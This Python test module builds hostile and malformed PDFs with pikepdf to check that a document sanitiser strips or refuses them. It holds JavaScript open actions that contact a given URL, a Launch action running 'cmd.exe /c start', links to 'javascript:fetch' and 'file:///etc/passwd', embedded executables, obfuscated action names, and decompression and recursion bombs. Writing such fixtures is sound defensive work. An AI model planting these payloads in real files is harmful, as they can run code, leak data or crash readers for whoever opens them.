"""Hostile and broken PDF files, made from a seed: scripts, programs, files inside, forms that send, loops, bombs."""

import random
import zlib
from collections.abc import Callable, Iterator, Mapping
from io import BytesIO
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

from meetings.domain.paper_refusals import Refusal
from tests.meetings.papers.hostile_kinds import CLEAN, Hostile, changed

SCRIPT = "app.launchURL('{url}'); this.submitForm('{url}');"
Poison = Callable[[Pdf, str], None]


def plain_pdf(pages: int = 2) -> bytes:
    """Harmless, with something to see on each page."""
    with Pdf.new() as pdf:
        for number in range(pages):
            page = pdf.add_blank_page(page_size=(595, 842))
            page.Contents = pdf.make_stream(f"0.2 0.4 0.6 rg 72 {72 + number % 600} 200 80 re f".encode())
        return _saved(pdf)


def _saved(pdf: Pdf) -> bytes:
    packed = BytesIO()
    pdf.save(packed, deterministic_id=True)
    return packed.getvalue()


def _action(kind: str, **more: Any) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name(f"/{kind}"), **more)


def _script(url: str) -> Dictionary:
    return _action("JavaScript", JS=String(SCRIPT.format(url=url)))


def _file(pdf: Pdf, url: str) -> Dictionary:
    return pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String(url), EF=Dictionary(F=pdf.make_stream(b"MZ" + url.encode())))
    )


def _annotation(pdf: Pdf, subtype: str, **more: Any) -> None:
    rect = Array([72, 72, 300, 300])
    found = Dictionary(Type=Name.Annot, Subtype=Name(f"/{subtype}"), Rect=rect, **more)
    pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(found)]))


def _on_link(kind: str, **more: Any) -> Poison:
    def poison(pdf: Pdf, url: str) -> None:
        values = {
            key: String(value.format(url=url)) if isinstance(value, str) else value for key, value in more.items()
        }
        _annotation(pdf, "Link", A=_action(kind, **values))

    return poison


def _in_root(key: str, made: Callable[[Pdf, str], object]) -> Poison:
    def poison(pdf: Pdf, url: str) -> None:
        pdf.Root[key] = made(pdf, url)

    return poison


def _form(**more: Any) -> Callable[[Pdf, str], object]:
    def made(pdf: Pdf, url: str) -> object:
        field = Dictionary(
            FT=Name.Tx, T=String("a"), Subtype=Name.Widget, Rect=Array([0, 0, 9, 9]), AA=Dictionary(K=_script(url))
        )
        return Dictionary(Fields=Array([pdf.make_indirect(field)]), XFA=String(f"<xdp><a href='{url}'/></xdp>"), **more)

    return made


def _chain(pdf: Pdf, url: str) -> None:
    last = _action("Launch", F=String("calc.exe"), Win=Dictionary(F=String("cmd.exe"), P=String(f"/c start {url}")))
    first = _action("GoTo", D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([_script(url), last]))
    _annotation(pdf, "Link", A=first)


def _outline(pdf: Pdf, url: str) -> None:
    item = pdf.make_indirect(Dictionary(Title=String("Mục"), A=_script(url)))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))


def _named_scripts(pdf: Pdf, url: str) -> None:
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), _script(url)])),
        EmbeddedFiles=Dictionary(Names=Array([String("a.exe"), _file(pdf, url)])),
    )


def _outside_stream(pdf: Pdf, url: str) -> None:
    stream = pdf.make_stream(b"")
    stream.F, stream.FFilter = Dictionary(FS=Name.URL, F=String(url)), Name.FlateDecode
    pdf.pages[0].Contents = stream


def _recursive_form(pdf: Pdf, _: str) -> None:
    form = pdf.make_stream(b"/X Do /X Do", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    form.Resources = Dictionary(XObject=Dictionary(X=form))
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(X=form))
    pdf.pages[0].Contents = pdf.make_stream(b"/X Do")


def _huge_image(pdf: Pdf, _: str) -> None:
    side = 30_000
    pixels = zlib.compress(bytes(side) * 300, 9)
    image = pdf.make_stream(pixels, Type=Name.XObject, Subtype=Name.Image, Width=side, Height=side, BitsPerComponent=8)
    image.ColorSpace, image.Filter = Name.DeviceRGB, Name.FlateDecode
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(I=image))
    pdf.pages[0].Contents = pdf.make_stream(b"595 0 0 842 0 0 cm /I Do")


def _sized(*box: float) -> Poison:
    def poison(pdf: Pdf, _: str) -> None:
        pdf.pages[0].MediaBox = Array(list(box))

    return poison


def _signature(pdf: Pdf, url: str) -> None:
    value = Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), Contents=String("00"), Reason=String(url))
    field = pdf.make_indirect(Dictionary(FT=Name.Sig, T=String("s"), V=value))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3)


POISONS: Mapping[str, Poison] = {
    "open-script": _in_root("/OpenAction", lambda _, url: _script(url)),
    "open-launch": _in_root("/OpenAction", lambda _, url: _action("Launch", F=String(url))),
    "root-additional": _in_root("/AA", lambda _, url: Dictionary(WC=_script(url), DP=_script(url))),
    "form-xfa": _in_root("/AcroForm", _form(NeedAppearances=True)),
    "collection": _in_root("/Collection", lambda _, url: Dictionary(D=String(url))),
    "attached": _in_root("/AF", lambda pdf, url: Array([_file(pdf, url)])),
    "page-additional": lambda pdf, url: pdf.pages[0].obj.__setitem__("/AA", Dictionary(O=_script(url), C=_script(url))),
    "named-scripts": _named_scripts,
    "chain": _chain,
    "outline": _outline,
    "outside-stream": _outside_stream,
    "recursive-form": _recursive_form,
    "link-script": _on_link("JavaScript", JS=SCRIPT),
    "link-launch": _on_link("Launch", F="{url}"),
    "link-remote": _on_link("GoToR", F="{url}", D=0),
    "link-embedded": _on_link("GoToE", F="{url}", D=0),
    "link-submit": _on_link("SubmitForm", F="{url}", Flags=4),
    "link-import": _on_link("ImportData", F="{url}"),
    "link-movie": _on_link("Movie", T="{url}"),
    "link-rendition": _on_link("Rendition", JS=SCRIPT, OP=0),
    "link-sound": _on_link("Sound", F="{url}"),
    "link-thread": _on_link("Thread", F="{url}", D=0),
    "link-javascript-address": _on_link("URI", URI="javascript:fetch('{url}')"),
    "link-file-address": _on_link("URI", URI="file:///etc/passwd"),
    "link-data-address": _on_link("URI", URI="data:text/html,<script src={url}></script>"),
    "file-attachment": lambda pdf, url: _annotation(pdf, "FileAttachment", FS=_file(pdf, url)),
    "rich-media": lambda pdf, url: _annotation(pdf, "RichMedia", RichMediaContent=Dictionary(A=_file(pdf, url))),
    "screen": lambda pdf, url: _annotation(pdf, "Screen", A=_script(url)),
    "movie": lambda pdf, url: _annotation(pdf, "Movie", Movie=Dictionary(F=String(url))),
    "three-d": lambda pdf, url: _annotation(pdf, "3D", OnInstantiate=pdf.make_stream(url.encode())),
    "widget-additional": lambda pdf, url: _annotation(pdf, "Widget", FT=Name.Tx, AA=Dictionary(E=_script(url))),
    "signature": _signature,
    "box-tiny": _sized(0, 0, 0.01, 0.01),
    "box-huge": _sized(0, 0, 14_000, 14_000),
    "box-strip": _sized(0, 0, 10, 14_000),
}


NOT_DRAWN = ("recursive-form", "box-strip")
UNDRAWN: frozenset[Refusal | None] = frozenset({Refusal.BROKEN})


def poisoned(url: str) -> Iterator[Hostile]:
    """Each way of acting, in a file in order otherwise: all come out clean, but for two that cannot be drawn."""
    for name, poison in POISONS.items():
        with pikepdf.open(BytesIO(plain_pdf())) as pdf:
            poison(pdf, url)
            yield Hostile(f"{name}.pdf", _saved(pdf), UNDRAWN if name in NOT_DRAWN else CLEAN)
    disguised = poisoned_script(url).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/OpenAction", b"/Open#41ction")
    yield Hostile("disguised-names.pdf", disguised, CLEAN)
    yield Hostile("and-a-page.pdf", plain_pdf() + f"<html><script src='{url}'></script></html>".encode(), CLEAN)
    yield Hostile("and-an-archive.pdf", plain_pdf() + b"PK\x03\x04" + url.encode() * 30, CLEAN)


def poisoned_script(url: str) -> bytes:
    """A script at its opening, written plainly."""
    with pikepdf.open(BytesIO(plain_pdf())) as pdf:
        pdf.Root.OpenAction = _script(url)
        packed = BytesIO()
        pdf.save(packed, object_stream_mode=pikepdf.ObjectStreamMode.disable, deterministic_id=True)
        return packed.getvalue()


def hopeless() -> Iterator[Hostile]:
    """What no paper can be made of, and what it is refused for."""
    with pikepdf.open(BytesIO(plain_pdf())) as pdf:
        packed = BytesIO()
        pdf.save(packed, encryption=pikepdf.Encryption(owner="a", user="b"), deterministic_id=False)
    yield Hostile("locked.pdf", packed.getvalue(), frozenset({Refusal.LOCKED}))
    yield Hostile("too-many-pages.pdf", plain_pdf(2001), frozenset({Refusal.TOO_MANY_PAGES}))
    broken = frozenset({Refusal.BROKEN})
    with Pdf.new() as pdf:
        yield Hostile("no-pages.pdf", _saved(pdf), broken)
    yield Hostile("only-a-head.pdf", b"%PDF-1.7\n%%EOF", broken)
    yield Hostile("a-page-in-disguise.pdf", b"%PDF-1.7\n<html><script>alert(1)</script></html>", broken)
    deep = b"%PDF-1.7\n1 0 obj\n" + b"[" * 200_000 + b"]" * 200_000 + b"\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    yield Hostile("deep.pdf", deep, broken)
    yield Hostile("zeros.pdf", b"%PDF-1.7\n" + bytes(100_000), broken)
    yield Hostile("cut.pdf", plain_pdf()[:400], frozenset({Refusal.BROKEN, *CLEAN}))
    with pikepdf.open(BytesIO(plain_pdf())) as pdf:
        _huge_image(pdf, "")
        heavy = frozenset({Refusal.BROKEN, Refusal.TOO_HEAVY, *CLEAN})
        yield Hostile("huge-image.pdf", _saved(pdf), heavy)


def mutated(chance: random.Random, url: str, how_many: int) -> Iterator[Hostile]:
    """Files that were good once: bytes changed, pieces cut out, put in twice. No crash, whatever becomes of them."""
    sources = [poisoned_script(url), plain_pdf(3)]
    for number in range(how_many):
        content = changed(chance, sources[number % 2], keep=8)
        yield Hostile(f"mutated-{number}.pdf", content, None)
